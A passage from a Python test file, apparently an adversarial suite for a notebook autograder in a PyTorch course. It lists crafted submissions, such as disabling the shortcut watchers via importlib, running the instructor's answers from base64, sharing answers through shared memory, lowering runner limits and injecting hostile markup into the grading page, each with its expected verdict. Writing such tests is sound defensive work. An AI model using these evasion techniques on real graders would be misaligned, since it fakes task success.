                           "scaled_dot_product_attention": None}, COMPILED_HELPER),
           score=FULL, needs_human=False),
    attack("correct-profiled", "correct, with cProfile left running", LEAVES_A_PROFILER_ON,
           correct=True, needs_human=False),
    attack("correct-autoreload", "correct, with %autoreload", "%load_ext autoreload\n%autoreload 2",
           correct=True, needs_human=False),
    Attack("stray-untitled", "correct, and a blank Untitled.ipynb after it in the download",
           with_a_stray("stray-untitled", untitled), score=FULL, needs_human=False),
    Attack("stray-half-saved", "correct, and a copy saved halfway (not JSON) after it",
           with_a_stray("stray-half-saved", lambda: valid_bytes()[:5000]), score=FULL,
           needs_human=False),
    attack("correct-crlf", "correct, every cell saved with Windows line endings", correct=True,
           build=edited(True, windows_line_endings), needs_human=False),
    attack("crlf-setup-changed", "the setup cell's code changed, saved with Windows line endings",
           build=edited(False, setup_changed), needs_human=True),
    attack("builtin-via-to-thread", "calls the built-in through asyncio.to_thread",
           build=answered({"softmax": "import asyncio\nreturn asyncio.run("
                                      "asyncio.to_thread(torch.softmax, x, dim))"}),
           needs_human=True, shows="can't start new thread"),
    attack("watchers-off-by-name", "switches the shortcut watch off with a built name",
           build=answered(builtin_answers(str), WATCHERS_OFF_BY_NAME), needs_human=True),
    attack("watchers-off-by-importlib", "switches the shortcut watch off through importlib",
           build=answered(builtin_answers(str), WATCHERS_OFF_BY_IMPORTLIB), needs_human=True),
    attack("watchers-off-in-a-magic", "switches the shortcut watch off in a %%time cell",
           build=answered(builtin_answers(str), WATCHERS_OFF_IN_A_MAGIC), needs_human=True),
    attack("solutions-from-base64", "the instructor's answers run from base64 strings",
           build=lambda: notebook(answers=exec_from_base64(solution_bodies(LESSON))),
           needs_human=True),
    attack("shared-memory-writer", "correct, and leaves a System V shared memory segment",
           SHARED_MEMORY.format(reads=False), correct=True, score=0.0, needs_human=True,
           shows="Operation not permitted"),
    attack("shared-memory-reader", "blank, and reads the segment the writer left",
           SHARED_MEMORY.format(reads=True), needs_human=True, never="SHARED ANSWERS FOUND",
           shows="Operation not permitted"),
    attack("lowers-runner-limits", "lowers the memory limit of the runner above it",
           LOWERS_RUNNER_LIMITS, shows="Operation not permitted"),
    attack("control-after-limits", "a correct submission, right after the limits were lowered",
           correct=True),
    attack("surrogate-error", "an error whose message holds a lone surrogate",
           build=answered(SURROGATE_ERROR)),
    attack("grade-id-list", "a test cell's grade_id turned into a list",
           build=edited(True, grade_id_list), outcome="ungradable"),
    attack("aliased-record", "answers with 1000 tensors sharing one MiB",
           ALIASED_RECORD, outcome="ungradable"),
    Attack("hostile-markup", f"correct, with {len(markdown_payloads(''))} markdown payloads, raw "
           "HTML, attachments and metadata for the formgrader's page",
           with_hostile_markup("hostile-markup"), score=FULL),
    attack("correct-float64-l04", "correct lesson 04, float64 made the default dtype",
           "import torch\ntorch.set_default_dtype(torch.float64)", correct=True, lesson=L04,
           needs_human=False),
    attack("correct-no-grad-l07", "correct lesson 07, gradients switched off in a demo cell",
           "import torch\ntorch.set_grad_enabled(False)", correct=True, lesson=L07,
           needs_human=False),
    attack("tiled-over-queries", "tiled attention as a loop over blocks of queries",
           build=answered({"tiled_attention": TILED_OVER_QUERIES}, lesson=L07), lesson=L07),
    attack("size-watch-off", "attention in one piece, the tensor-size watch popped",
           build=answered({"tiled_attention": SIZE_WATCH_OFF}, lesson=L07), lesson=L07,
           needs_human=True),
]
